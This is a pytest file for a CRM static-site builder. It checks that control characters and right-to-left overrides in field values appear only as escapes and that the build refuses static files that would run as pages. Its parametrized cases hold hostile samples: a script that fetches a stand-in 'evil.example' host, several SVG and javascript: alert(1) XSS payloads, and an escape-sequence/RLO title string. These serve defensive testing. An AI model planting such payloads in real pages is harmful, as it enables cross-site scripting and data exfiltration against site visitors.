"""What a page shows and what static/ publishes cannot act in the reader's browser: hidden characters of
field values are shown as escapes, and static/ refuses documents that would run as pages of the site."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

from plaintext_crm.cli import cli
from tests.support import ACME_CLIENT, EXAMPLE_TODAY, LEAD_DEAL

TITLE = "Pay \\e]0;x\\a \\u202eexe.fdp \\x85 end"  # YAML escapes: ESC, BEL, U+202E, NEL


def build(root: Path) -> Result:
    return CliRunner().invoke(cli, ["build", str(root), "--today", EXAMPLE_TODAY, "-q"])


def test_hidden_characters_of_values_are_escapes_on_every_page(make_workspace: Callable[..., Path]) -> None:
    # YAML's double-quoted escapes give raw ESC, BEL, NUL-like controls and a right-to-left override.
    root = make_workspace({"clients/acme.md": ACME_CLIENT,
                           "deals/site.md": LEAD_DEAL.format(title=TITLE, next_action="Call")})
    result = build(root)
    assert result.exit_code == 0, result.output
    page = (root / "site" / "deals" / "site.html").read_text(encoding="utf-8")
    assert "\\u202e" in page and "\\x1b]0;x\\x07" in page
    for html in (root / "site").rglob("*.html"):
        text = html.read_text(encoding="utf-8")
        assert not any(char in text for char in "\x1b\x07\u202e\x85"), html


@pytest.mark.parametrize(("name", "content"), [
    ("steal.html", b"<script>fetch('https://evil.example/?'+1)</script>"),
    ("page.XHTML", b"<html xmlns='http://www.w3.org/1999/xhtml'/>"),
    ("feed.xml", b"<?xml version='1.0'?><x/>"),
    ("logo.svg", b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"),
    ("logo.svg", b"<svg xmlns='http://www.w3.org/2000/svg' ONLOAD ='alert(1)'/>"),
    ("logo.svg", b"<svg xmlns='http://www.w3.org/2000/svg'><foreignObject><p>x</p></foreignObject></svg>"),
    ("logo.svg", b"<svg xmlns='http://www.w3.org/2000/svg'><a href='javascript:alert(1)'><text>x</text></a></svg>"),
])
def test_static_documents_that_run_as_pages_are_refused(make_workspace: Callable[..., Path], name: str,
                                                       content: bytes) -> None:
    root = make_workspace({"clients/acme.md": ACME_CLIENT, f"site-templates/static/{name}": content})
    result = build(root)
    assert result.exit_code == 2, result.output
    assert f"site-templates/static/{name}" in result.output and "refusing to publish it" in result.output
    assert "Traceback" not in result.output
    assert not (root / "site").exists()


def test_plain_assets_are_published(make_workspace: Callable[..., Path]) -> None:
    root = make_workspace({"clients/acme.md": ACME_CLIENT,
                           "site-templates/static/logo.svg": b"<svg xmlns='http://www.w3.org/2000/svg'><circle r='4'/></svg>",
                           "site-templates/static/brand.css": "body { color: #123; }\n"})
    result = build(root)
    assert result.exit_code == 0, result.output
    assert (root / "site" / "static" / "logo.svg").is_file()
    assert (root / "site" / "static" / "brand.css").is_file()
